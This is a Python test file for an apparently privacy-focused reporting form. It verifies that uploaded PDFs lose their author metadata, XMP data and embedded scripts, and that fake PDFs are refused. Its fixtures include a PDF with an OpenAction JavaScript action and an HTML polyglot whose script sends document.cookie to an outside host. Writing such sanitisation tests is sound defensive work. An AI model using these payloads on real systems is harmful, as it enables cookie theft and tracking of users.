"""PDFs keep nothing but their pages: author, XMP metadata and scripts do not survive, and a file that only
starts like a PDF is refused, in the visitor's language."""

from __future__ import annotations

import io

import pytest
from litestar import Litestar
from litestar.testing import TestClient
from pypdf import PdfReader, PdfWriter
from pypdf.generic import DictionaryObject, NameObject, StreamObject, TextStringObject

from reporting.config.settings import Settings
from reporting.intake.attachments import PDF_MEDIA_TYPE, AttachmentRejectedError, clean_file
from reporting.intake.pdf_rebuild import MAX_PAGES
from reporting.web.form_body import ReceivedFile
from tests.intake.conftest import assert_report_values_kept, full_report_form, post_form, report_count, run

AUTHOR = "Jane Reporter"
SCRIPT = "app.alert('tracked');"
XMP = (
    b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    b'<rdf:Description xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>Jane Reporter at Home</dc:creator>'
    b"</rdf:Description></rdf:RDF></x:xmpmeta>"
)


def _pdf_with_metadata_and_script(pages: int) -> bytes:
    writer = PdfWriter()
    for _page in range(pages):
        writer.add_blank_page(595, 842)
    writer.add_metadata({"/Author": AUTHOR, "/Producer": "Office Scanner SN-4711"})
    xmp = StreamObject()
    xmp.set_data(XMP)
    xmp.update({NameObject("/Type"): NameObject("/Metadata"), NameObject("/Subtype"): NameObject("/XML")})
    script = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Action"),
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(SCRIPT),
        }
    )
    writer._root_object[NameObject("/Metadata")] = writer._add_object(xmp)
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(script)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def test_pdf_comes_out_with_its_pages_and_nothing_else() -> None:
    original = _pdf_with_metadata_and_script(pages=2)
    original_reader = PdfReader(io.BytesIO(original))
    assert original_reader.metadata is not None
    assert original_reader.metadata.author == AUTHOR
    assert "/OpenAction" in original_reader.root_object

    cleaned = clean_file(ReceivedFile(filename="scan.pdf", content_type="application/pdf", content=original))

    assert cleaned.media_type == PDF_MEDIA_TYPE
    reader = PdfReader(io.BytesIO(cleaned.content))
    assert len(reader.pages) == 2
    assert reader.metadata is None or not any(reader.metadata.values())
    assert reader.xmp_metadata is None
    assert set(reader.root_object.keys()) == {"/Type", "/Pages"}
    for forbidden in (AUTHOR.encode(), b"Jane", b"SN-4711", b"JavaScript", b"/JS", b"/AA", b"xmpmeta", b"/Metadata"):
        assert forbidden not in cleaned.content
    for page in reader.pages:
        resources = page["/Resources"].get_object()
        assert isinstance(resources, DictionaryObject)
        assert resources["/XObject"]  # the page is one drawn image
        assert "/Annots" not in page


def test_html_that_starts_like_a_pdf_is_refused_in_the_visitors_language(
    client: TestClient[Litestar], initialised_settings: Settings
) -> None:
    form = full_report_form()
    html = b"%PDF-1.7\n<html><body><script>fetch('https://example.org/?' + document.cookie)</script></body></html>"
    files = [("attachments", ("statement.pdf", html, "application/pdf"))]
    response = post_form(client, "/report?lang=de", form, files)
    assert response.status_code == 400
    assert "„statement.pdf“ konnte nicht gelesen werden." in response.text
    assert_report_values_kept(response.text, form)
    assert run(report_count(initialised_settings)) == 0


def test_a_pdf_past_the_page_limit_is_refused_not_rendered() -> None:
    too_long = _pdf_with_metadata_and_script(pages=MAX_PAGES + 1)
    with pytest.raises(AttachmentRejectedError, match=r"book\.pdf"):
        clean_file(ReceivedFile(filename="book.pdf", content_type="application/pdf", content=too_long))
